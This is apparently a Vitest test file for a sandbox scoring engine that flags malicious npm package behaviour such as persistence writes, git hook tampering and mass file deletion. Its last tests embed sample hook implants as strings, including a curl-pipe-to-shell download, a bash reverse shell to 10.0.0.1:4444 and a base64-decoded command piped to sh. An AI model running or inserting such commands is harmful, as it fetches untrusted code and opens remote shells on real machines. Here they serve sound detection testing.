import { describe, expect, it } from 'vitest';
import { DESTRUCTIVE_MIN_FILES, scoreReport } from '../src/index.js';
import { proc, reportWith, write } from './helpers.js';

const rules = (v: ReturnType<typeof scoreReport>) => v.reasons.map((r) => r.rule);

describe('persistence', () => {
  it('fires on ~/.bashrc, a systemd user unit, a git hook outside the package and crontab', () => {
    const v = scoreReport(
      reportWith({
        fileWrites: [
          write('/home/jordan/.bashrc', { operation: 'write' }),
          write('/home/jordan/.config/systemd/user/x.service'),
          write('/home/jordan/projects/app/.git/hooks/pre-commit'),
        ],
        processes: [proc(['crontab', '/tmp/c'])],
      }),
    );
    expect(rules(v)).toEqual(['persistence']);
    expect(v.score).toBe(70);
    expect(v.verdict).toBe('malicious');
    expect(v.reasons[0]!.evidence.map((e) => [e.section, e.index])).toEqual([
      ['fileWrites', 0],
      ['fileWrites', 1],
      ['fileWrites', 2],
      ['processes', 0],
    ]);
  });

  it("does not fire on git's inert .sample hooks of a new repository, but does on a sample renamed to its event", () => {
    const repo = '/home/jordan/projects/app/ghp_token/.git/hooks';
    const samples = ['pre-commit.sample', 'pre-push.sample', 'fsmonitor-watchman.sample'].map((name) => write(`${repo}/${name}`));
    expect(scoreReport(reportWith({ fileWrites: samples })).reasons).toEqual([]);
    expect(scoreReport(reportWith({ fileWrites: [write('/home/jordan/.git-templates/hooks/pre-commit.sample')] })).reasons).toEqual([]);
    const renamed = write(`${repo}/pre-commit`, { operation: 'rename', source: `${repo}/pre-commit.sample` });
    const v = scoreReport(reportWith({ fileWrites: [...samples, renamed] }));
    expect(rules(v)).toEqual(['persistence']);
    expect(v.reasons[0]!.evidence.map((e) => e.index)).toEqual([3]);
  });

  it("does not fire on the package folder's own .git, reading crontab, or deleting .bashrc", () => {
    const v = scoreReport(
      reportWith({
        fileWrites: [
          write('/home/jordan/projects/app/node_modules/demo/.git/hooks/x'),
          write('/home/jordan/.bashrc', { operation: 'unlink' }),
        ],
        processes: [proc(['crontab', '-l'])],
      }),
    );
    expect(v.reasons).toEqual([]);
  });
});

describe('persistence through git templates and global hooks', () => {
  it('fires on hooks written to a git template folder in the home and on git config --global init.templateDir / core.hooksPath', () => {
    const v = scoreReport(
      reportWith({
        fileWrites: [write('/home/jordan/.git-templates/hooks/post-checkout'), write('/home/jordan/.config/git/template/hooks/pre-commit')],
        processes: [
          proc(['git', 'config', '--global', 'init.templateDir', '/home/jordan/.git-templates']),
          proc(['git', 'config', '--system', 'core.hooksPath', '/opt/hooks']),
        ],
      }),
    );
    expect(rules(v)).toEqual(['persistence']);
    expect(v.reasons[0]!.evidence.map((e) => [e.section, e.index])).toEqual([
      ['fileWrites', 0],
      ['fileWrites', 1],
      ['processes', 0],
      ['processes', 1],
    ]);
  });

  it("does not fire on husky's project-local core.hooksPath, on reading the global setting, or on npm's own git", () => {
    const v = scoreReport(
      reportWith({
        fileWrites: [write('/home/jordan/projects/app/.husky/_/pre-commit'), write('/home/jordan/.cache/templates/hooks/x')],
        processes: [
          proc(['git', 'config', 'core.hooksPath', '.husky/_']),
          proc(['git', 'config', '--global', '--get', 'user.name']),
          proc(['git', 'config', '--global', 'core.hooksPath']), // a read: hook installers check it
          proc(['git', 'config', '--global', '--unset', 'core.hooksPath']),
          proc(['git', 'config', '--global', 'init.templateDir', '/tmp/t'], { attribution: null }),
        ],
      }),
    );
    expect(v.reasons).toEqual([]);
  });
});

describe('destructive-writes', () => {
  const homeFiles = (n: number) => Array.from({ length: n }, (_, i) => write(`/home/jordan/Documents/f${i}.txt`, { operation: 'unlink' }));

  it(`fires at ${DESTRUCTIVE_MIN_FILES} files deleted in the home directory`, () => {
    const v = scoreReport(reportWith({ fileWrites: homeFiles(DESTRUCTIVE_MIN_FILES) }));
    expect(rules(v)).toEqual(['destructive-writes']);
    expect(v.reasons[0]!.explanation).toBe('10 files in the home directory were deleted or renamed away, outside the project.');
    expect(v.score).toBe(70);
    expect(v.verdict).toBe('malicious');
  });

  it('counts renames by their source and fsDiff deletions', () => {
    const renames = Array.from({ length: 5 }, (_, i) =>
      write(`/home/jordan/Documents/f${i}.enc`, { operation: 'rename', source: `/home/jordan/Documents/f${i}` }),
    );
    const deleted = Array.from({ length: 5 }, (_, i) => ({
      path: `/home/jordan/Pictures/p${i}.jpg`,
      normalizedPath: `<HOME>/Pictures/p${i}.jpg`,
      kind: 'deleted' as const,
    }));
    expect(rules(scoreReport(reportWith({ fileWrites: renames, fsDiff: deleted })))).toEqual(['destructive-writes']);
  });

  it('does not count config rewrites (O_TRUNC opens) in the home directory', () => {
    const rewrites = Array.from({ length: 20 }, (_, i) => write(`/home/jordan/.config/tool/f${i}.json`, { operation: 'truncate' }));
    expect(scoreReport(reportWith({ fileWrites: rewrites })).reasons).toEqual([]);
  });

  it('does not fire below the threshold or on npm cache and project cleanup', () => {
    const cleanup = Array.from({ length: 30 }, (_, i) => write(`/home/jordan/.npm/_cacache/tmp/${i}`, { operation: 'unlink' }));
    const project = Array.from({ length: 30 }, (_, i) =>
      write(`/home/jordan/projects/app/node_modules/old/${i}.js`, { operation: 'unlink' }),
    );
    expect(scoreReport(reportWith({ fileWrites: [...homeFiles(DESTRUCTIVE_MIN_FILES - 1), ...cleanup, ...project] })).reasons).toEqual([]);
  });
});

describe("persistence through the project's own git hooks", () => {
  const hookPath = '/home/jordan/projects/app/.git/hooks/pre-commit';
  const withHook = (head: string) =>
    scoreReport(
      reportWith({
        fileWrites: [write(hookPath)],
        persistenceFiles: [
          { path: hookPath, normalizedPath: '<HOME>/projects/app/.git/hooks/pre-commit', bytes: head.length, head, truncated: false },
        ],
      }),
    );

  it("leaves out a hook installer's launcher: it hands over to the project's dependencies (URLs in comments do not count)", () => {
    const launchers = [
      '#!/usr/bin/env bash\n# https://magit.vc/manual\nRESOLVED="$(node -e "console.log(require.resolve(\'x\'))")"\n"$BINARY" "$RESOLVED"\n',
      '#!/bin/sh\n# husky\n. "$(dirname "$0")/husky.sh"\n',
      '#!/bin/sh\nnode "./node_modules/yorkie/src/runner.js" pre-commit || exit 1\n',
      '#!/bin/sh\nnpx --no-install some-runner run pre-commit "$@"\n',
    ];
    for (const head of launchers) expect(rules(withHook(head)), head).toEqual([]);
  });

  it('fires on an implant: a download, a connection, a decoder, or a script parked in a temp folder', () => {
    const implants = [
      '#!/bin/sh\n(curl -s http://h.example/x | sh) >/dev/null 2>&1 &\n',
      '#!/bin/sh\nnode node_modules/.bin/x; bash -i >& /dev/tcp/10.0.0.1/4444 0>&1\n',
      '#!/bin/sh\necho aGVsbG8= | base64 -d | sh\n',
      '#!/bin/sh\nnpx x; sh /tmp/.cache/stage2.sh\n',
      '#!/bin/sh\necho hello\n', // hands over to nothing the project installed
    ];
    for (const head of implants) {
      const v = withHook(head);
      expect(rules(v), head).toEqual(['persistence']);
      expect(v.verdict).toBe('malicious');
    }
  });

  it('fires when the hook was not read back (fail closed)', () => {
    expect(rules(scoreReport(reportWith({ fileWrites: [write(hookPath)] })))).toEqual(['persistence']);
  });
});
